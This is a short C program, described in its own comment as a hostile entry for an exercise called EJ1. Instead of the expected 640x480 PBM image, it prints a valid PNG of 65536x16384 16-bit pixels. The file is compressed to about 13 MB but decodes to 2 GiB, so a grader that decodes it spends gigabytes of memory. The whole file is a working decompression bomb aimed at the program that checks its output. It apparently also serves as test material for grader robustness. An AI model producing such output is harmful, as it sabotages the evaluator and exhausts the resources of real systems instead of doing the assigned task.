/* Hostile: an EJ1 program that prints, instead of the 640x480 plain PBM,
   a valid PNG of 65536x16384 16-bit gray pixels (2 GiB once decoded)
   in about 13 MB: every pixel 0, deflated with fixed Huffman codes as
   one literal and then copies of 258 bytes.  A grader that decodes what
   it is given spends gigabytes on it. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define WIDTH 65536ul
#define HEIGHT 16384ul
#define ROW (1 + WIDTH * 2) /* the filter byte and 16-bit samples */

static unsigned long crc_table[256];

static void crc_init(void)
{
    unsigned long c, n, k;
    for (n = 0; n < 256; n++) {
        c = n;
        for (k = 0; k < 8; k++)
            c = c & 1 ? 0xedb88320ul ^ (c >> 1) : c >> 1;
        crc_table[n] = c;
    }
}

static unsigned long crc(unsigned long c, const unsigned char *p, size_t n)
{
    size_t i;
    for (i = 0; i < n; i++)
        c = crc_table[(c ^ p[i]) & 0xff] ^ (c >> 8);
    return c;
}

typedef struct bits {
    unsigned char *data;
    size_t size;
    unsigned long buffer;
    int count;
} bits;

/* n bits of value, least significant first (deflate's order). */
static void put(bits *b, unsigned long value, int n)
{
    b->buffer |= value << b->count;
    b->count += n;
    while (b->count >= 8) {
        b->data[b->size++] = (unsigned char)(b->buffer & 0xff);
        b->buffer >>= 8;
        b->count -= 8;
    }
}

/* A Huffman code of n bits, most significant first. */
static void put_code(bits *b, unsigned long code, int n)
{
    unsigned long reversed = 0;
    int i;
    for (i = 0; i < n; i++)
        reversed |= ((code >> i) & 1) << (n - 1 - i);
    put(b, reversed, n);
}

static void put32(unsigned char *p, unsigned long v)
{
    p[0] = (unsigned char)(v >> 24);
    p[1] = (unsigned char)(v >> 16);
    p[2] = (unsigned char)(v >> 8);
    p[3] = (unsigned char)v;
}

static void chunk(const char *type, const unsigned char *data, size_t n)
{
    unsigned char head[8], tail[4];
    put32(head, (unsigned long)n);
    memcpy(head + 4, type, 4);
    put32(tail, crc(crc(0xfffffffful, head + 4, 4), data, n) ^
                    0xfffffffful);
    fwrite(head, 1, 8, stdout);
    fwrite(data, 1, n, stdout);
    fwrite(tail, 1, 4, stdout);
}

int main(void)
{
    static const unsigned char signature[8] = {0x89, 'P', 'N', 'G',
                                               '\r', '\n', 0x1a, '\n'};
    unsigned char ihdr[13] = {0};
    double total = (double)ROW * HEIGHT;
    unsigned long long left = (unsigned long long)ROW * HEIGHT - 1;
    unsigned long long b_sum = (unsigned long long)ROW * HEIGHT % 65521;
    bits b;
    crc_init();
    b.data = malloc((size_t)(total / 258 * 13 / 8) + 1024);
    b.size = 0;
    b.buffer = 0;
    b.count = 0;
    if (b.data == NULL)
        return 1;
    put32(ihdr, WIDTH);
    put32(ihdr + 4, HEIGHT);
    ihdr[8] = 16; /* bit depth */
    ihdr[9] = 0;  /* gray */
    /* zlib header, then one final block of fixed codes. */
    b.data[b.size++] = 0x78;
    b.data[b.size++] = 0x01;
    put(&b, 1, 1);
    put(&b, 1, 2);
    put_code(&b, 0x30, 8); /* literal 0 */
    while (left >= 258) {
        put_code(&b, 0xc5, 8); /* length 258 (symbol 285) */
        put_code(&b, 0, 5);    /* distance 1 */
        left -= 258;
    }
    while (left > 0) {
        put_code(&b, 0x30, 8);
        left--;
    }
    put_code(&b, 0, 7); /* end of block */
    if (b.count > 0)
        put(&b, 0, 8 - b.count);
    /* Adler-32 of all zeros: a = 1, b = the count. */
    put32(b.data + b.size, (unsigned long)(b_sum << 16 | 1));
    b.size += 4;
    fwrite(signature, 1, 8, stdout);
    chunk("IHDR", ihdr, 13);
    chunk("IDAT", b.data, b.size);
    chunk("IEND", ihdr, 0);
    free(b.data);
    return 0;
}
